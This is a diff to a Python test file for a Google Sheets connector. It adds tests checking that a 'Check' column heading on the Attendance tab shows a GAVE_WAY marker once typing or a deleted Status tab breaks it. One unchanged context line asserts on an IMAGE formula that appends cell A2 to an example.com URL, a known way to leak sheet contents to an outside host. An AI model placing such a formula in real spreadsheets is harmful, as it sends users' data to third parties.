@@ -9,7 +9,7 @@ from connectors.google import GoogleWorkbook
 from connectors.google.emulator import Hands
 from connectors.google.looks import Looks, read
 from connectors.google.seen import MOST_BESIDE_LOOKS, MOST_PLAIN_READS
-from sheets_schema.grid import FormulaCell, Padded, Percent
+from sheets_schema.grid import GAVE_WAY, FormulaCell, Padded, Percent
 from tests.connectors.excel.building import TABS
 from tests.connectors.google.place import Place, google
 
@@ -186,3 +186,26 @@ def test_a_formula_that_shows_nothing_is_told_all_the_same() -> None:
     rows, looks = read({"data": [{"rowData": [{"values": [cell]}]}]})
     assert rows == []
     assert looks.odd == {(0, 0): FormulaCell('=IMAGE("https://example.com/?"&A2)', "")}
+
+
+@pytest.mark.parametrize(("what", "act"), [
+    ("typed below", lambda h: h.put("Attendance", 3, h.column_of("Attendance", "Check"), "mine")),
+    ("typed over", lambda h: h.put("Attendance", 1, h.column_of("Attendance", "Check"), "Check")),
+])  # fmt: skip
+def test_a_grey_column_that_no_longer_answers_says_so_in_its_heading(
+    place: Place, what: str, act: Callable[[Hands], None]
+) -> None:
+    book = place.workbook(TABS)
+    before = book.snapshot(["Attendance"])
+    assert GAVE_WAY not in before.grids["Attendance"].rows[0], what
+    column = place.hands.column_of("Attendance", "Check")
+    act(place.hands)
+    after = book.snapshot(["Attendance"])
+    assert after.grids["Attendance"].rows[0][column] == GAVE_WAY
+    assert after.token != before.token
+
+
+def test_headings_that_wait_for_the_tab_of_answers_do_not(place: Place) -> None:
+    place.hands.delete_tab("Status")
+    assert GAVE_WAY in place.hands.seen("Attendance")[0]
+    assert GAVE_WAY not in place.workbook(TABS).snapshot(["Attendance"]).grids["Attendance"].rows[0]
